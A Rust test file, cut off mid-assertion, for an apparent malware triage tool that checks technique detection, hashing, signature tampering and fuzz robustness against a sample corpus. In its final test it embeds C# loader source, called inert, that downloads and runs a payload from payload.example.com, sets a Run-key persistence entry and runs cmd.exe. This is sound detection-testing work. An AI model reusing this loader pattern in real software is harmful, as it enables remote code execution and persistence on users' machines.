//! Triage against the corpus: every expected ATT&CK technique of every malicious sample is
//! found, the benign set rarely gets a technique, formats and hashes match the ground truth,
//! and broken input gives warnings, never a panic.

use serde_json::Value;
use spoor::sample::{self, SampleFormat};
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::time::Instant;

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn expected_samples() -> Vec<(PathBuf, Value)> {
    let mut out = Vec::new();
    let dir = root().join("corpus/expected/samples");
    let mut families: Vec<_> = std::fs::read_dir(&dir)
        .expect("corpus/expected/samples")
        .filter_map(|e| e.ok().map(|e| e.path()))
        .collect();
    families.sort();
    for fam in families {
        let mut files: Vec<_> = std::fs::read_dir(&fam)
            .expect("family dir")
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|x| x == "json"))
            .collect();
        files.sort();
        for f in files {
            let v: Value =
                serde_json::from_str(&std::fs::read_to_string(&f).expect("read")).expect("json");
            let path = root().join(v["path"].as_str().expect("path"));
            out.push((path, v));
        }
    }
    assert_eq!(out.len(), 27, "27 corpus samples");
    out
}

fn files_under(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    let mut entries: Vec<_> = rd.filter_map(|e| e.ok().map(|e| e.path())).collect();
    entries.sort();
    for p in entries {
        if p.is_dir() {
            files_under(&p, out);
        } else if p.is_file() && !p.extension().is_some_and(|x| x == "txt" || x == "md") {
            out.push(p);
        }
    }
}

#[test]
fn corpus_techniques_formats_and_hashes() {
    let mut want_total = 0;
    let mut found_total = 0;
    let mut missing = Vec::new();
    let mut slowest = (0.0f64, String::new());
    for (path, v) in expected_samples() {
        let data = std::fs::read(&path).expect("sample");
        let start = Instant::now();
        let t = sample::triage(&path.display().to_string(), &data);
        let ms = start.elapsed().as_secs_f64() * 1000.0;
        if ms > slowest.0 {
            slowest = (ms, path.display().to_string());
        }
        assert!(
            t.warnings.is_empty(),
            "{}: {:?}",
            path.display(),
            t.warnings
        );
        assert_eq!(
            t.hashes.sha256,
            v["hashes"]["sha256"].as_str().unwrap_or("")
        );
        assert_eq!(t.hashes.md5, v["hashes"]["md5"].as_str().unwrap_or(""));
        let want_format = match v["format"].as_str() {
            Some("pe") => SampleFormat::Pe,
            Some("elf") => SampleFormat::Elf,
            Some("macho") if v["arch"] == "universal" => SampleFormat::MachoFat,
            _ => SampleFormat::Macho,
        };
        assert_eq!(t.format, want_format, "{}", path.display());
        if v["arch"] != "universal" {
            let want_arch = match v["arch"].as_str().unwrap_or("") {
                "aarch64" if want_format != SampleFormat::Elf => "arm64",
                a => a,
            };
            assert_eq!(t.arch, want_arch, "{}", path.display());
            assert_eq!(u64::from(t.bitness), v["bitness"].as_u64().unwrap_or(0));
        } else {
            assert_eq!(t.macho.len(), 2);
        }
        assert!(!t.sections.is_empty() && !t.imports.is_empty());
        if want_format == SampleFormat::Pe {
            let pe = t.pe.as_ref().expect("pe info");
            assert!(pe.imphash.is_some() && pe.entry_section.as_deref() == Some(".text"));
            assert_eq!(pe.dll, v["kind"] == "dll", "{}", path.display());
        }
        let got: BTreeSet<&str> = t.techniques.iter().map(|x| x.id.as_str()).collect();
        for tech in v["techniques"].as_array().expect("techniques") {
            let id = tech["id"].as_str().expect("id");
            want_total += 1;
            if got.contains(id) {
                found_total += 1;
            } else {
                missing.push(format!("{} {id}", path.display()));
            }
        }
        for tech in &t.techniques {
            assert!(!tech.evidence.is_empty());
            assert!(!tech.name.starts_with('('), "{} has no name", tech.id);
        }
    }
    eprintln!(
        "technique recall: {found_total}/{want_total}; slowest triage {:.1} ms ({})",
        slowest.0, slowest.1
    );
    // Techniques whose only evidence is a PE resource, which triage does not read yet.
    let known_gaps: [&str; 0] = [];
    missing.retain(|m| !known_gaps.iter().any(|g| m.ends_with(g)));
    assert!(
        missing.is_empty(),
        "missing techniques:\n{}",
        missing.join("\n")
    );
}

#[test]
fn benign_set_rarely_gets_a_technique() {
    let mut files = Vec::new();
    files_under(&root().join("corpus/benign"), &mut files);
    assert!(files.len() >= 70, "benign set present");
    let (mut any, mut strong) = (0, 0);
    let mut report = Vec::new();
    for f in &files {
        let data = std::fs::read(f).expect("benign file");
        let t = sample::triage(&f.display().to_string(), &data);
        if !t.techniques.is_empty() {
            any += 1;
        }
        let s: Vec<&str> = t
            .techniques
            .iter()
            .filter(|x| x.confidence.as_str() != "low")
            .map(|x| x.id.as_str())
            .collect();
        if !s.is_empty() {
            strong += 1;
            report.push(format!("{}: {}", f.display(), s.join(" ")));
        }
    }
    eprintln!(
        "benign: {any}/{} files with any technique, {strong}/{} with a medium/high one\n{}",
        files.len(),
        files.len(),
        report.join("\n")
    );
    // The built benign programs are deliberate near misses (an installer that writes a Run
    // key, a process viewer, a VMware helper, a hooking tool): their techniques are real
    // behaviour. This bound keeps new rules from spreading to the rest of the set.
    assert!(strong <= 13, "{strong} benign files flagged");
}

#[test]
fn broken_input_gives_warnings_not_panics() {
    let (path, _) = expected_samples()
        .into_iter()
        .find(|(p, _)| p.ends_with("needlepoint_v1_x64.exe"))
        .expect("sample");
    let data = std::fs::read(&path).expect("sample");
    // Truncations at many lengths.
    for len in (0..data.len()).step_by(97).chain([64, 0x80, 0x200, 0x400]) {
        let t = sample::triage("cut", &data[..len.min(data.len())]);
        assert_eq!(t.size as usize, len.min(data.len()));
        if len > 0x400 && len < data.len() {
            assert!(
                !t.warnings.is_empty() || !t.sections.is_empty(),
                "cut at {len}"
            );
        }
    }
    // Bit flips in the headers and tables, deterministic.
    let mut state = 0x2545_f491_4f6c_dd1du64;
    for _ in 0..300 {
        let mut d = data.clone();
        for _ in 0..8 {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            let i = (state as usize) % d.len().min(0x4000);
            d[i] ^= 1 << (state >> 60 & 7);
        }
        let _ = sample::triage("flipped", &d);
    }
    for other in ["burrow/burrow_v1_x86_64", "orchard/orchard_v3_universal"] {
        let data = std::fs::read(root().join("corpus/malicious").join(other)).expect("sample");
        for len in (0..data.len()).step_by(211) {
            let _ = sample::triage("cut", &data[..len]);
        }
    }
    // Every corpus sample: bit flips anywhere (resources, delay imports, Mach-O slices).
    for (path, _) in expected_samples() {
        let data = std::fs::read(&path).expect("sample");
        for _ in 0..40 {
            let mut d = data.clone();
            for _ in 0..16 {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                let i = (state as usize) % d.len();
                d[i] ^= 1 << (state >> 60 & 7);
            }
            let _ = sample::triage("flipped", &d);
        }
    }
    // The signed sample (certificate table, version info) and a manifest: cuts and flips
    // in the signature and resource data.
    for file in [
        "corpus/benign/built/backupd_signed_x64.exe",
        "corpus/benign/debian/distlib/t32.exe",
    ] {
        let data = std::fs::read(root().join(file)).expect("sample");
        for len in (0..data.len()).step_by(331) {
            let _ = sample::triage("cut", &data[..len]);
        }
        let tail = data.len().saturating_sub(4096);
        for _ in 0..60 {
            let mut d = data.clone();
            for _ in 0..8 {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                let i = tail + (state as usize) % (d.len() - tail);
                d[i] ^= 1 << (state >> 60 & 7);
            }
            let _ = sample::triage("flipped", &d);
        }
    }
    let t = sample::triage("garbage", b"MZ\x90\x00 not really a PE");
    assert_eq!(t.format, SampleFormat::Pe);
    assert!(!t.warnings.is_empty());
}

#[test]
fn imphash_matches_pefile() {
    // Values computed with pefile 2024.8.26 `get_imphash()` (all 94 PE files of the corpus
    // and benign set agreed when this test was written).
    for (path, want) in [
        (
            "corpus/malicious/ashdrop/ashdrop_v1_x64.exe",
            "ecda912f383050f46dadcb3dd7b86cc4",
        ),
        (
            "corpus/malicious/coalpit/coalpit_v2_x86.exe",
            "0971c8ab74f7b9811d4fb9e4629510d6",
        ),
        (
            "corpus/benign/debian/zlib/zlib1_x64.dll",
            "7054bc5ac8a978bbae7b34d81f3160a3",
        ),
    ] {
        let data = std::fs::read(root().join(path)).expect("sample");
        let t = sample::triage(path, &data);
        let got = t.pe.and_then(|p| p.imphash);
        assert_eq!(got.as_deref(), Some(want), "{path}");
    }
}

#[test]
fn rich_header_hash_and_pdb_path() {
    // Rich header hash computed with pefile 2024.8.26 `get_rich_header_hash()`.
    let data = std::fs::read(root().join("corpus/benign/debian/distlib/t64.exe")).expect("file");
    let pe = sample::triage("t64", &data).pe.expect("pe");
    assert_eq!(
        pe.rich_header_hash.as_deref(),
        Some("5a3efa120fe045e35b080f60d580c117")
    );
    assert_eq!(
        pe.pdb_path.as_deref(),
        Some(r"C:\Users\Vinay\Projects\simple_launcher\dist\t64.pdb")
    );
    let mingw =
        std::fs::read(root().join("corpus/malicious/lockjaw/lockjaw_v1_x64.exe")).expect("sample");
    let pe = sample::triage("lockjaw", &mingw).pe.expect("pe");
    assert_eq!(pe.rich_header_hash, None);
    assert!(
        !pe.tls_callbacks.is_empty(),
        "mingw binaries carry TLS callbacks"
    );
}

#[test]
fn pe_resources_are_read() {
    let data =
        std::fs::read(root().join("corpus/malicious/ashdrop/ashdrop_v1_x64.exe")).expect("sample");
    let t = sample::triage("ashdrop", &data);
    let pe = t.pe.expect("pe");
    let payload = pe
        .resources
        .iter()
        .find(|r| r.name == "ADRPAYLOAD")
        .expect("ADRPAYLOAD resource");
    assert_eq!(payload.kind, "RCDATA");
    assert_eq!(payload.embedded.as_deref(), Some("pe"));
    assert_eq!(&data[payload.offset as usize..][..2], b"MZ");
    assert!(pe.resources.iter().any(|r| r.kind == "VERSION"));
}

/// Text inside the image of a picture resource is pixels, not the program's: a URL inside
/// a PNG is no IOC and no string, while one appended after the PNG's `IEND` chunk still is,
/// and so is the same URL when the resource is no image (its PNG signature broken).
#[test]
fn text_in_a_picture_resource_is_pixels() {
    let data =
        std::fs::read(root().join("corpus/malicious/ashdrop/ashdrop_v1_x64.exe")).expect("sample");
    let t = sample::triage("ashdrop", &data);
    let payload =
        t.pe.expect("pe")
            .resources
            .into_iter()
            .find(|r| r.name == "ADRPAYLOAD")
            .expect("ADRPAYLOAD resource");
    let mut png =
        b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0\x1f\xf3\xffa".to_vec();
    png.extend_from_slice(b"\0\0\0\x20IDAT\0http://pixels.example.net/in.png\0\0\0\0");
    png.extend_from_slice(b"\0\0\0\0IEND\xaeB`\x82");
    png.extend_from_slice(b"http://appended.example.org/after.bin\0");
    assert!(
        png.len() as u64 <= payload.size,
        "the resource holds the picture"
    );
    let with = |signature: u8| {
        let mut patched = data.clone();
        let at = payload.offset as usize;
        patched[at..at + png.len()].copy_from_slice(&png);
        patched[at] = signature;
        let t = sample::triage("patched", &patched);
        let urls: BTreeSet<String> = t
            .iocs
            .iter()
            .filter(|i| i.kind == spoor::ioc::IocKind::Url)
            .map(|i| i.value.clone())
            .collect();
        let strings = t
            .strings
            .iter()
            .any(|s| s.value.contains("pixels.example.net"));
        (urls, strings)
    };
    let (urls, strings) = with(0x89);
    assert!(
        !urls.contains("http://pixels.example.net/in.png"),
        "{urls:?}"
    );
    assert!(!strings, "a string inside the image");
    assert!(
        urls.contains("http://appended.example.org/after.bin"),
        "{urls:?}"
    );
    // the same bytes, no image: the URL is the program's
    let (urls, strings) = with(0x88);
    assert!(
        urls.contains("http://pixels.example.net/in.png"),
        "{urls:?}"
    );
    assert!(strings);
}

#[test]
fn output_is_deterministic_json() {
    let path = root().join("corpus/malicious/lockjaw/lockjaw_v1_x64.exe");
    let data = std::fs::read(&path).expect("sample");
    let a = serde_json::to_string(&sample::triage("x", &data)).expect("json");
    let b = serde_json::to_string(&sample::triage("x", &data)).expect("json");
    assert_eq!(a, b);
    let v: Value = serde_json::from_str(&a).expect("json");
    assert!(v["iocs"].as_array().is_some_and(|a| a
        .iter()
        .any(|i| i["type"] == "url" && i["sightings"][0]["section"] == ".rdata")));
}

#[test]
fn ten_mib_pe_with_overlay() {
    // A corpus sample with a 10 MiB overlay of pseudo-random bytes and strings.
    let mut data =
        std::fs::read(root().join("corpus/malicious/lockjaw/lockjaw_v1_x64.exe")).expect("sample");
    let image = data.len() as u64;
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    while data.len() < 10 << 20 {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        if state.is_multiple_of(4) {
            data.extend_from_slice(b"http://overlay.example.net/x\0C:\\Temp\\x.dll\0");
        } else {
            data.extend_from_slice(&state.to_le_bytes());
        }
    }
    let start = Instant::now();
    let t = sample::triage("big", &data);
    let ms = start.elapsed().as_secs_f64() * 1000.0;
    eprintln!("triage of a {} byte PE: {ms:.1} ms", data.len());
    let pe = t.pe.expect("pe");
    assert_eq!(pe.overlay_size, data.len() as u64 - image);
    // The same size with a random overlay (no strings): the common case for packed payloads.
    let mut random = data[..image as usize].to_vec();
    while random.len() < 10 << 20 {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        random.extend_from_slice(&state.to_le_bytes());
    }
    let start = Instant::now();
    let r = sample::triage("big-random", &random);
    eprintln!(
        "triage of a {} byte PE with a random overlay: {:.1} ms",
        random.len(),
        start.elapsed().as_secs_f64() * 1000.0
    );
    assert_eq!(
        r.pe.map(|p| p.overlay_size),
        Some(random.len() as u64 - image)
    );
    assert!(t
        .iocs
        .iter()
        .any(|i| i.value == "http://overlay.example.net/x" && i.sightings[0].section.is_none()));
}

#[test]
fn string_tags() {
    use spoor::sample::strings::tag;
    assert_eq!(tag("CreateRemoteThread"), ["api"]);
    assert_eq!(tag("CreateFileW"), ["api"]);
    assert_eq!(tag("KERNEL32.dll"), ["dll"]);
    assert_eq!(tag("http://a.example.com/x"), ["url"]);
    assert_eq!(tag(r"HARDWARE\ACPI\DSDT\VBOX__"), ["registry"]);
    assert_eq!(tag(r"C:\Users\Public\x.exe"), ["path"]);
    assert_eq!(tag("rundll32.exe \"%s\",Start"), ["format"]);
    assert_eq!(tag("SGVsbG8gd29ybGQhIQ=="), ["base64"]);
    assert_eq!(
        tag("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"),
        ["base64-alphabet"]
    );
    assert!(tag("CreateToolhelp32Snapshot") == ["api"]);
    assert!(tag("just some words").is_empty());
}

/// Deterministic test input: `len` xorshift bytes drawn from `alphabet` (all bytes when
/// empty), then `zeros` zero bytes (a zero rolling hash at the end takes another path).
fn generated(len: usize, alphabet: &[u8], zeros: usize, seed: u64) -> Vec<u8> {
    let mut state = seed | 1;
    let mut out = Vec::with_capacity(len + zeros);
    for _ in 0..len {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        let b = (state >> 24) as u8;
        out.push(match alphabet.len() {
            0 => b,
            n => alphabet[usize::from(b) % n],
        });
    }
    out.resize(len + zeros, 0);
    out
}

/// (length, alphabet, trailing zeros) of the generated fuzzy-hash cases.
const FUZZY_CASES: &[(usize, &[u8], usize)] = &[
    (0, b"", 0),
    (6, b"", 0),
    (193, b"", 0),
    (4097, b"", 0),
    (20_000, b"ab \n\0", 0),
    (100_000, b"", 16),
    (300_000, b"", 0),
    (300_000, b"xy", 8),
    (1_000_000, b"", 0),
];

/// What the reference tools print for [`FUZZY_CASES`] and two corpus samples: Debian's
/// `ssdeep` 2.14, and TLSH 4 (`py-tlsh` 5.0: `TNULL` here is `None`; Debian's `tlsh` 3.x
/// agrees from 256 bytes on and prints no `T1`).
const FUZZY_WANT: &[(&str, Option<&str>)] = &[
    ("3::", None),
    ("3:3Vkn:+", None),
    (
        "6:jzrdeDYOYWfUqE2rvPhoUe+uqpp4nzl5HhvX:p7OYWfhE4XGUeQEh9x",
        Some("A9C02244C6E5A0EDAF66025B5DA79C7F808CAA223248301860040A380B4AC998826181"),
    ),
    (
        "96:eK2GfTA05j0QdqTzPJcj0fx3V8Bd1ob3ka/mbSx2:7ffT3jUn+ofx3V8BQRmt",
        Some("F6815D4D640D071FB7EBFE726CA14C330609977B1656E32188D9B3B8145CAAD49F81AE"),
    ),
    (
        "192:mPbdbchtJm58ZLjQAJGEs8AAvqWA19wA+dXFi7fd+3iM+Q87IvFL+/q2sWmG2EAw:8BbcpmSLjFg8AAiWA1wdV+FoJtq8WmDw",
        Some("61920930CB35569240AB35BFCC82089D5BFE1B76A9A58CB76A49E0B53FC61C04CBD361"),
    ),
    (
        "3072:cBQl7bweFoAxqcTFAfQ0o1iR1lN1TMuZB:/mAyfjRk8",
        Some("CCA302C356CC960E53DDEB83E50C135A490DB2593DDA99CB7AE639CA1F6401C6CF2229"),
    ),
    (
        "6144:/mAyfjRk8uw+g3uYHghP1lmKH3/F7QdHa98zYM7VI3xCEO+:qSg3mR1l9HPJ6zYM7VIBX",
        Some("125423A113DDD89A31AEF7C3B21C06F93D55F5FB15452C19A0A2686D4E988AFBCB301C"),
    ),
    (
        "48:91u5m3qUOCIQ1UBUiRWMgU/n3GDOsGGnIYrb3YTpnEFvM6mS4iwdLmZCCwIdYU82:9",
        None,
    ),
    (
        "24576:qFIb6dnhI3yWIPhrWJx+VWOaGnbm3kMbNtjsiB14yqy2dMpcdwEaw/4:M/Rh/prWJx+raGnFcNNf14yqy2dMpawx",
        Some("C92533FC6DEB971C97E5544DB68C3A87A8524695CF236BB0F1B2A305702EE4CD921B0C"),
    ),
    (
        "192:ALDtX+fAtUguL3cajPcErVrengIjCVk8KOIPKnVbmzndzjJJYA8nR+q:ALknguDhjPcEBreg1nlknznZJmnRB",
        Some("7E72C64F361784EDC14AE2F8D1F79B35B7B4B90209A1173E0160E1B52F307B59E7AA29"),
    ),
    (
        "192:/upbSnqCSXpfGhcYboWxAJgILQzcYKEIPhULKvQw3Ad1mHjQzjc5qQfQnD+fwx+q:/u0q/5qLboWxAubV3kAAQLm2jGIDLxB",
        Some("7682E60F3A1388E9C516E2F4D5FB8F357B70F9020A65473E1060E1B52F306A59B7AA39"),
    ),
];

#[test]
fn fuzzy_hashes_match_the_reference_tools() {
    let mut inputs: Vec<Vec<u8>> = FUZZY_CASES
        .iter()
        .enumerate()
        .map(|(i, &(len, alphabet, zeros))| generated(len, alphabet, zeros, 7 + i as u64))
        .collect();
    for sample in [
        "corpus/malicious/needlepoint/needlepoint_v1_x64.exe",
        "corpus/malicious/lockjaw/lockjaw_v1_x64.exe",
    ] {
        inputs.push(std::fs::read(root().join(sample)).expect("sample"));
    }
    assert_eq!(inputs.len(), FUZZY_WANT.len());
    for (data, (ssdeep, tlsh)) in inputs.iter().zip(FUZZY_WANT) {
        assert_eq!(sample::fuzzy::ssdeep(data), *ssdeep, "{} bytes", data.len());
        assert_eq!(
            sample::fuzzy::tlsh(data),
            tlsh.map(|t| format!("T1{t}")),
            "{} bytes",
            data.len()
        );
    }
    // The report carries both.
    let t = sample::triage("x", &inputs[FUZZY_WANT.len() - 1]);
    assert_eq!(t.hashes.ssdeep, FUZZY_WANT[FUZZY_WANT.len() - 1].0);
    assert!(t.hashes.tlsh.is_some_and(|h| h.starts_with("T17682E6")));
}

#[test]
fn authenticode_signature_and_tampering() {
    let path = root().join("corpus/benign/built/backupd_signed_x64.exe");
    let data = std::fs::read(&path).expect("signed sample");
    let pe = sample::triage("signed", &data).pe.expect("pe");
    assert!(pe.signed);
    assert_eq!(pe.signatures.len(), 1);
    let sig = &pe.signatures[0];
    let who = "/C=US/O=Example Org/CN=Example Test Signer (throwaway)";
    assert_eq!(sig.signer, who);
    assert_eq!(sig.issuer, who);
    assert_eq!(sig.program_name.as_deref(), Some("Example Backup"));
    assert_eq!(sig.digest_algorithm, "sha256");
    // `osslsigncode verify` prints this as both the current and the calculated digest.
    let want = "f4e4b2067696c121f4e746faea011b339a233a6c49d76386a60348c93485dec0";
    assert_eq!(sig.signed_digest, want);
    assert_eq!(sig.file_digest, want);
    assert!(sig.digest_matches && sig.verified);
    // The certificate table is not an overlay.
    assert_eq!(pe.overlay_size, 0);

    // One byte changed in the code after signing: the digest no longer matches.
    let text = {
        let t = sample::triage("signed", &data);
        t.sections.iter().find(|s| s.name == ".text").cloned()
    }
    .expect(".text");
    let mut tampered = data.clone();
    tampered[text.raw_offset as usize + 16] ^= 0x01;
    let pe = sample::triage("tampered", &tampered).pe.expect("pe");
    let sig = &pe.signatures[0];
    assert_eq!(sig.signed_digest, want);
    assert_ne!(sig.file_digest, want);
    assert!(!sig.digest_matches && !sig.verified);
    let view = spoor::cli::triage::text(&sample::triage("tampered", &tampered));
    assert!(view.contains("DIGEST MISMATCH"), "{view}");
    assert!(view.contains("not trust"), "{view}");

    // The unsigned original.
    let plain = std::fs::read(root().join("corpus/benign/built/backupd_x64.exe")).expect("sample");
    let pe = sample::triage("plain", &plain).pe.expect("pe");
    assert!(!pe.signed && pe.signatures.is_empty());
    // A certificate table cut short: still "signed", no signature, a warning.
    let cut = &data[..data.len() - 200];
    let t = sample::triage("cut", cut);
    assert!(t
        .pe
        .as_ref()
        .is_some_and(|p| p.signed && p.signatures.is_empty()));
    assert!(t
        .warnings
        .iter()
        .any(|w| w.message.contains("certificate table")));
}

#[test]
fn version_info_and_manifest() {
    let data =
        std::fs::read(root().join("corpus/malicious/ashdrop/ashdrop_v1_x64.exe")).expect("sample");
    let pe = sample::triage("x", &data).pe.expect("pe");
    assert_eq!(
        pe.version_info.get("OriginalFilename").map(String::as_str),
        Some("OneDriveStandaloneUpdater.exe")
    );
    assert_eq!(
        pe.version_info.get("CompanyName").map(String::as_str),
        Some("Microsoft Corporation")
    );
    assert!(!pe.signed);
    assert_eq!(pe.manifest, None);
    let data = std::fs::read(root().join("corpus/benign/debian/distlib/w64.exe")).expect("sample");
    let pe = sample::triage("x", &data).pe.expect("pe");
    let m = pe.manifest.expect("manifest");
    assert_eq!(m.execution_level.as_deref(), Some("asInvoker"));
    assert_eq!(m.ui_access, Some(false));
    assert_eq!(
        pe.version_info.get("ProductName").map(String::as_str),
        Some("Simple Launcher")
    );
}

#[test]
fn elf_symbols_and_macho_load_commands() {
    let data =
        std::fs::read(root().join("corpus/malicious/burrow/burrow_v3_x86_64.so")).expect("sample");
    let elf = sample::triage("x", &data).elf.expect("elf");
    assert!(elf.stripped && !elf.static_linked);
    assert_eq!(elf.symbols, 0);
    assert_eq!(elf.dynamic_symbols, 24);
    assert_eq!(elf.exports, ["burrow_hide_entry", "burrow_start"]);
    for api in ["connect", "execl", "prctl", "socket"] {
        assert!(elf.notable_imports.iter().any(|i| i == api), "{api}");
    }

    let data = std::fs::read(root().join("corpus/malicious/orchard/orchard_v3_universal"))
        .expect("sample");
    let t = sample::triage("x", &data);
    assert_eq!(t.macho.len(), 2);
    let (x64, arm) = (&t.macho[0], &t.macho[1]);
    assert_eq!((x64.arch.as_str(), arm.arch.as_str()), ("x86_64", "arm64"));
    assert!(!x64.code_signature && arm.code_signature);
    assert_eq!(
        arm.load_commands.last().map(String::as_str),
        Some("LC_CODE_SIGNATURE")
    );
    for slice in &t.macho {
        assert_eq!(slice.load_commands[0], "LC_SEGMENT_64");
        assert!(slice.load_commands.iter().any(|c| c == "LC_LOAD_DYLIB"));
        assert!(slice.load_commands.iter().any(|c| c == "LC_MAIN"));
    }
}

#[test]
fn junk_strings_are_dropped_and_text_kept() {
    use spoor::ioc::Encoding;
    use spoor::sample::strings::{is_junk, tag, FoundString};
    let found = |v: &str| FoundString {
        offset: 0,
        encoding: Encoding::Ascii,
        section: None,
        value: v.to_string(),
        tags: tag(v),
    };
    for junk in [
        "ABABABAB",
        "-=-=-=-=",
        "x#Kq9",
        "HcP<H",
        "D$(E1",
        "[^_]A\\A]",
        "0 0$0",
    ] {
        assert!(is_junk(&found(junk), false), "{junk}");
    }
    // Printable machine code is junk in an executable section only.
    assert!(is_junk(&found("AWAVAUATUWVSH"), true));
    assert!(!is_junk(&found("AWAVAUATUWVSH"), false));
    for text in [
        "Global\\LJ-7d0c2e41",
        "3.2.1.0",
        "192.0.2.10",
        "</dict>",
        "CreateMutexA",
        "GetProcAddress",
        "%s\\%s",
        "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
        "YOUR FILES HAVE BEEN ENCRYPTED",
    ] {
        assert!(!is_junk(&found(text), true), "{text}");
    }
    // On a real sample: the x64 prologue noise of .text is gone, the ransom note stays, and
    // the IOC engine still saw every string.
    let data =
        std::fs::read(root().join("corpus/malicious/lockjaw/lockjaw_v1_x64.exe")).expect("sample");
    let t = sample::triage("x", &data);
    assert!(t.junk_strings >= 20, "{}", t.junk_strings);
    assert!(!t.strings.iter().any(|s| s.value == "UAWAVAUATWVSH"));
    assert!(t.strings.iter().any(|s| s.value == "Global\\LJ-7d0c2e41"));
    assert!(t
        .strings
        .iter()
        .any(|s| s.value == "YOUR FILES HAVE BEEN ENCRYPTED BY LOCKJAW"));
}

#[test]
fn crypto_constants_in_real_code() {
    // zlib carries its CRC-32 table; the corpus' own small programs carry none.
    for (file, want) in [
        (
            "corpus/benign/debian/zlib/zlib1_x64.dll",
            vec!["crc32-table"],
        ),
        (
            "corpus/benign/debian/zlib/libz.so.1_x86_64",
            vec!["crc32-table"],
        ),
        ("corpus/malicious/lockjaw/lockjaw_v1_x64.exe", vec![]),
    ] {
        let data = std::fs::read(root().join(file)).expect("sample");
        let t = sample::triage("x", &data);
        let names: Vec<&str> = t.crypto_constants.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, want, "{file}");
        for c in &t.crypto_constants {
            assert_eq!(
                &data[c.offset as usize..][..8],
                &[0, 0, 0, 0, 0x96, 0x30, 0x07, 0x77]
            );
        }
    }
}

#[test]
fn extract_on_a_binary_uses_triage_strings() {
    use spoor::extract::{ExtractOptions, Extractor};
    let path = root().join("corpus/malicious/fetchbird/fetchbird_v3_x64.dll");
    let data = std::fs::read(&path).expect("sample");
    let extraction =
        Extractor::new(ExtractOptions::default()).extract_paths(std::slice::from_ref(&path));
    assert!(extraction.errors.is_empty());
    assert!(!extraction.iocs.is_empty());
    let mut utf16 = 0;
    for ioc in &extraction.iocs {
        for s in &ioc.sightings {
            // Every sighting lies in a section, at an offset that holds the text.
            let field = s.field.as_deref().unwrap_or_default();
            assert!(field.starts_with("section "), "{} {field:?}", ioc.value);
            let off = s.offset.expect("offset") as usize;
            let step = if s.encoding == spoor::ioc::Encoding::Utf16le {
                2
            } else {
                1
            };
            let window: String = data[off..]
                .iter()
                .step_by(step)
                .take(ioc.value.len() + 2)
                .map(|&b| (b as char).to_ascii_lowercase())
                .collect();
            let head: String = ioc.value.to_ascii_lowercase().chars().take(3).collect();
            assert!(
                window.contains(&head),
                "{}: {window:?} at {off:#x}",
                ioc.value
            );
            if s.encoding == spoor::ioc::Encoding::Utf16le {
                utf16 += 1;
                assert_eq!(data[off + 1], 0);
            }
        }
    }
    // The same IOCs as triage reports, with the same offsets.
    let t = sample::triage("x", &data);
    for ioc in &t.iocs {
        let found = extraction
            .iocs
            .iter()
            .find(|i| i.kind == ioc.kind && i.value == ioc.value)
            .unwrap_or_else(|| panic!("{} missing from extract", ioc.value));
        assert_eq!(found.sightings[0].offset, Some(ioc.sightings[0].offset));
    }
    assert!(utf16 >= 5, "{utf16} UTF-16LE sightings");
}

/// The assembly `mcs` compiles from `source` in a folder of its own, or `None` (with a
/// note) when mono's `mcs` is not installed and `SPOOR_REQUIRE_MCS` is not set.
fn compiled_cs(folder: &str, name: &str, source: &str) -> Option<Vec<u8>> {
    if !super::corpus::on_path("mcs") {
        assert!(
            std::env::var_os("SPOOR_REQUIRE_MCS").is_none(),
            "SPOOR_REQUIRE_MCS is set but mcs is not on PATH"
        );
        eprintln!("note: mcs (Debian mono-mcs) is not on PATH; skipping the .NET sample");
        return None;
    }
    let dir = Path::new(env!("CARGO_TARGET_TMPDIR")).join(folder);
    std::fs::create_dir_all(&dir).expect("dir");
    let exe = super::rules_dotnet::mcs(&dir, name, source);
    Some(std::fs::read(&exe).expect("assembly"))
}

/// A C# program (inert: it returns at once unless given six arguments), compiled with mono's
/// `mcs` when installed: triage reads its .NET facts, maps its .NET API references to
/// behaviours and techniques, names the toolchain, and keeps .NET names out of the domains.
#[test]
fn dotnet_assembly_facts_and_behaviours() {
    const SOURCE: &str = r#"
using System;
using System.Diagnostics;
using System.IO;
using System.Net;
using System.Reflection;
using System.Runtime.InteropServices;
using System.Security.Cryptography;
using Microsoft.Win32;

[assembly: AssemblyVersion("2.3.4.5")]
[assembly: Guid("0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0")]

namespace Inert.Loader {
  public static class Stage {
    [DllImport("kernel32.dll")]
    static extern IntPtr VirtualAlloc(IntPtr a, UIntPtr s, uint t, uint p);

    public static int Main(string[] args) {
      if (args.Length != 6) return 0;
      byte[] blob = new WebClient().DownloadData("http://payload.example.com/stage2.bin");
      var aes = Aes.Create();
      var cs = new CryptoStream(new MemoryStream(blob), aes.CreateDecryptor(), CryptoStreamMode.Read);
      var asm = Assembly.Load(blob);
      asm.EntryPoint.Invoke(null, null);
      Registry.SetValue(@"HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run", "Updater", "x");
      Process.Start("cmd.exe", "/c whoami");
      VirtualAlloc(IntPtr.Zero, UIntPtr.Zero, 0x3000, 0x40);
      Console.WriteLine("Version 1.2.3.4 of System.Net.Http");
      return cs.GetHashCode();
    }
  }
}
"#;
    let Some(data) = compiled_cs("dotnet-sample", "stage", SOURCE) else {
        return;
    };
    let t = sample::triage("stage.exe", &data);
    let pe = t.pe.as_ref().expect("pe");
    let net = pe.dotnet.as_ref().expect(".NET facts");
    assert!(net.runtime.starts_with('v'), "{}", net.runtime);
    assert_eq!(net.assembly.as_deref(), Some("stage"));
    assert_eq!(net.version.as_deref(), Some("2.3.4.5"));
    assert_eq!(
